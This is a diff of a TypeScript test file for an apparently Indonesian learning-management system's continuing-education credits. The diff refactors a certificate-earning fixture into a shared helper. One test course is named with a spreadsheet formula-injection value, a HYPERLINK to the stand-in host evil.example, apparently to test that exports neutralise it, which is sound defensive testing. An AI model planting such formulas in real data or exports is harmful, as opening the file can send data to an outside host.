@@ -1,10 +1,10 @@
-import { certificates, courseAccreditations, credits, creditTargets, type Db, identities, users } from '@lms/db';
+import { creditTargets, identities, users } from '@lms/db';
 import { eq } from 'drizzle-orm';
 import t from 'tap';
 import { reissueCertificate, revokeCertificate } from '../../src/domain/learning/certificates.js';
 import { memberCredits, rollingStart, yearStart } from '../../src/domain/learning/credits.js';
 import { buildTestApp } from '../helpers/app.js';
-import { makeCourse } from '../helpers/catalog-fixtures.js';
+import { earnCertificate, makeCourse } from '../helpers/catalog-fixtures.js';
 import { manualClock } from '../helpers/clock.js';
 import { apiKeyFor, makeInstitution, makeUser, sessionCookieFor } from '../helpers/fixtures.js';
 import { pdfText } from '../helpers/pdf.js';
@@ -30,35 +30,15 @@ const ethics = await course('Etika Profesi', 4, 'KUM');
 const evil = await course('=HYPERLINK("http://evil.example/?x","klik")', 5, 'SKP');
 const tax = await course('Perpajakan', 7, 'SKP');
 
-/** A certificate and its credit record earned at `at` (what issuance writes, at a chosen date). */
-async function earn(d: Db, userId: string, c: { id: number; nilaiKum: number | null; creditScheme: string }, at: string) {
-  const [k] = await d
-    .insert(certificates)
-    .values({ userId, courseId: c.id, kum: c.nilaiKum, issuedAt: new Date(at) })
-    .returning();
-  // Under the course's accreditation (makeCourse records one for its nilaiKum), as issuance writes it.
-  const [a] = await d.select({ id: courseAccreditations.id }).from(courseAccreditations).where(eq(courseAccreditations.courseId, c.id));
-  await d.insert(credits).values({
-    userId,
-    courseId: c.id,
-    certificateId: k!.id,
-    scheme: c.creditScheme,
-    amount: c.nilaiKum!,
-    earnedAt: new Date(at),
-    accreditationId: a!.id,
-  });
-  return k!;
-}
-
 const member = await makeUser(db, { role: 'student', name: 'Ni Made Ayu Pradnyaswarī' });
 await db.update(users).set({ membershipId: 'IAI-0042' }).where(eq(users.id, member.id));
 // 00:30 WIB on 1 January 2026 (still 2025 in UTC): counts in 2026.
-const newYear = await earn(db, member.id, audit, '2025-12-31T17:30:00Z');
+const newYear = await earnCertificate(db, member.id, audit, '2025-12-31T17:30:00Z');
 // 23:30 WIB on 31 December 2025: counts in 2025.
-await earn(db, member.id, ethics, '2025-12-31T16:30:00Z');
+await earnCertificate(db, member.id, ethics, '2025-12-31T16:30:00Z');
 // The rolling window of 3 years starts at 00:00 WIB on 15 June 2023 = 2023-06-14T17:00:00Z.
-await earn(db, member.id, evil, '2023-06-14T17:00:00Z');
-await earn(db, member.id, tax, '2023-06-14T16:59:59Z');
+await earnCertificate(db, member.id, evil, '2023-06-14T17:00:00Z');
+await earnCertificate(db, member.id, tax, '2023-06-14T16:59:59Z');
 
 const partner = await registerPartner(db, { issuer: 'iai.example.or.id' });
 await db.insert(identities).values({ issuer: 'iai.example.or.id', membershipId: 'IAI-0042', userId: member.id, origin: 'sso' });
@@ -72,7 +52,7 @@ await db.insert(creditTargets).values({ partnerId: stranger, scheme: 'SKP', peri
 
 const other = await makeUser(db, { role: 'student', name: 'Orang Lain' });
 const secretCourse = await course('Kursus Rahasia Orang Lain', 3, 'SKP');
-await earn(db, other.id, secretCourse, '2026-02-01T00:00:00Z');
+await earnCertificate(db, other.id, secretCourse, '2026-02-01T00:00:00Z');
 
 const cookie = await sessionCookieFor(app, member.id, 30 * 86_400_000);
 const get = (url: string, extra: Record<string, string> = {}, c = cookie) => app.inject({ url, headers: { cookie: c, ...extra } });
@@ -239,10 +219,10 @@ t.test('a revoked certificate is voided (shown, not counted); a reissue counts a
 t.test('bounded statements: 40 records cost what 1 does', async (t) => {
   const few = await makeUser(db, { role: 'student' });
   const many = await makeUser(db, { role: 'student' });
-  await earn(db, few.id, audit, '2026-01-05T00:00:00Z');
+  await earnCertificate(db, few.id, audit, '2026-01-05T00:00:00Z');
   for (let i = 0; i < 40; i++) {
     const c = await course(`Seminar ${i}`, 1.5, i % 2 ? 'SKP' : 'KUM');
-    await earn(db, many.id, c, `20${10 + (i % 16)}-03-0${1 + (i % 9)}T00:00:00Z`);
+    await earnCertificate(db, many.id, c, `20${10 + (i % 16)}-03-0${1 + (i % 9)}T00:00:00Z`);
   }
   await db.insert(identities).values({ issuer: 'iai.example.or.id', membershipId: 'IAI-many', userId: many.id, origin: 'sso' });
   const cookies = [await sessionCookieFor(app, few.id), await sessionCookieFor(app, many.id)];
